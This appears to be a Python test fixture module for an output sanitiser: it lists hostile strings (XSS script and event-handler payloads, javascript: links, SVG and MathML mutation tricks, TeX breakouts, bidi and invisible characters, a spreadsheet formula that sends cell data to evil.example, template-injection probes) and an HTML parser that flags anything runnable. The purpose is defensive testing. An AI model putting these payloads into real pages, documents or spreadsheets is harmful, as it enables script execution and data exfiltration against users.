"""Texts that would run, lead away, hide or break, were they believed. They stand in for anything a model may write."""

from __future__ import annotations

from html.parser import HTMLParser

MARK = "pwned"
RUN = f"window.{MARK}=1;alert('{MARK}')"

TEXTS: dict[str, str] = {
    "script": f"<script>{RUN}</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "handlers": f'<img src=x onerror="{RUN}"><b onclick="{RUN}" onmouseover={MARK}()>b</b><body onload={MARK}()>',
    "broken out": f"\"'></textarea></title></pre></p></div><script>{RUN}</script><!-- --!> ]]>",
    "links": f"[a](javascript:{RUN}) [b](JaVaScRiPt&#58;{MARK}) [c](data:text/html,<script>{RUN}</script>) "
    f"[d](vbscript:{MARK}) <javascript:{MARK}> ![e](javascript:{MARK}) [f]: javascript:{MARK}",
    "elements": "<iframe src=//evil.example></iframe><object data=x></object><embed src=x><base href=//evil.example>"
    "<meta http-equiv=refresh content='0;url=//evil.example'><form action=//evil.example><input name=q><button>go"
    "</button></form><link rel=stylesheet href=//evil.example><style>*{display:none}</style><marquee>m</marquee>",
    "tex links": rf"$\href{{javascript:{MARK}}}{{x}}$ and $\url{{javascript:{MARK}}}$ and $\htmlClass{{a}}{{x}}$ "
    rf"$\includegraphics{{//evil.example/x}}$ $\htmlData{{on=load}}{{x}}$ $\style{{color:red}}{{x}}$",
    "tex breaks": rf"$\text{{</math><script>{RUN}</script>}}$ "
    rf"$\text{{<img src=x onerror={MARK}()>}}$ $\mbox{{</mtext>}}$",
    "mathml": f"<math><mtext><script>{RUN}</script></mtext><annotation-xml encoding='text/html'><img src=x "
    f"onerror={MARK}()></annotation-xml><maction actiontype='statusline#' xlink:href='javascript:{MARK}'>x</maction>"
    f"<mi href='javascript:{MARK}'>x</mi></math>",
    "svg": f"<svg onload={MARK}()><a xlink:href='javascript:{MARK}'><text>x</text></a><animate onbegin={MARK}() "
    f"attributeName=x><set attributeName=href to=javascript:{MARK}><foreignObject><iframe srcdoc='<script>{RUN}"
    "</script>'></iframe></foreignObject><use href='data:image/svg+xml,x'/></svg>",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'><math><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={MARK}()&gt;'></mglyph></math>",
    "styles": "<p style='position:fixed;inset:0;background:url(//evil.example)'>over all</p>",
    "bidi": "right \u202e2 pets is eslaf\u202c and \u2067isolated\u2069 \u200f\u061c",
    "hidden": "zero\u200bwidth \ufeff\u2060 control \x01\x08\x1b[31m \x7f\x9b tags \U000e0041\U000e0042",
    "formula cell": '=HYPERLINK("http://evil.example?x="&A1,"ok")\t+1+cmd|\' /C calc\'!A0',
    "long token": "x" * 20_000,
    "deep": "> " * 300 + "deep " + "*" * 400 + "$" + "{" * 2000 + "x" + "}" * 2000 + "$" + "<b>" * 500,
    "template": "{{ request.user.password }} {% load x %} ${7*7} #{7*7} %s %(x)s {0.__class__}",
    "entities": "&lt;script&gt;&#x3C;script&#x3E;alert(1)&#60;/script&#62; &amp;lt;b&amp;gt;",
}
EVERYTHING = "\n\n".join(text for name, text in TEXTS.items() if name not in ("long token", "deep"))

# For a name: it runs, turns what follows it, and is written from right to left.
NAME = f"<img src=x onerror={MARK}()>\u202egnp.exe \u05d0\u05d1\u05d2"

FORBIDDEN = {
    "iframe",
    "object",
    "embed",
    "base",
    "applet",
    "frame",
    "frameset",
    "foreignobject",
    "annotation-xml",
    "set",
}
LINKS = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "srcset",
    "background",
    "ping",
}


class Inert(HTMLParser):
    """Reads a page as a browser cuts it into tags, and notes whatever could run or lead away."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._within: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name.lower(): value or "" for name, value in attrs}
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        if tag in ("script", "style", "textarea", "title"):
            self._within.append(tag)
        if tag == "script" and not named.get("src", "").startswith("/static/"):
            self.found.append("a script of a page")
        if tag == "meta" and "http-equiv" in named:
            self.found.append("<meta http-equiv>")
        for name, value in named.items():
            if tag == "source" and name == "srcset" and value.startswith("/static/pictures/"):
                continue  # of a guide
            if name.startswith("on") or name in ("style", "srcdoc", "srcset"):
                self.found.append(f"{tag} {name}={value[:40]}")
            if name.startswith("hx-on"):
                self.found.append(f"{tag} {name}")
            if name in LINKS:
                self._check_link(tag, name, value)

    def _check_link(self, tag: str, name: str, value: str) -> None:
        plain = "".join(char for char in value if char > " ").lower()
        inside = plain.startswith(("/", "?", "#", ".")) and not plain.startswith("//")
        if tag == "link" and plain == "data:,":
            return
        if tag == "a" and plain.startswith(("http://", "https://", "mailto:")):
            return
        if (plain and not inside and ":" in plain.split("/")[0]) or plain.startswith("//"):
            self.found.append(f"{tag} {name}={value[:60]}")

    def handle_endtag(self, tag: str) -> None:
        if self._within and self._within[-1] == tag:
            self._within.pop()

    def handle_data(self, data: str) -> None:
        if self._within and self._within[-1] in ("script", "style") and data.strip():
            self.found.append(f"{self._within[-1]}: {data.strip()[:40]}")


def what_could_run(html: str) -> list[str]:
    """Return whatever on a page could run, hide it or lead away from it."""
    reader = Inert()
    reader.feed(html)
    reader.close()
    return reader.found
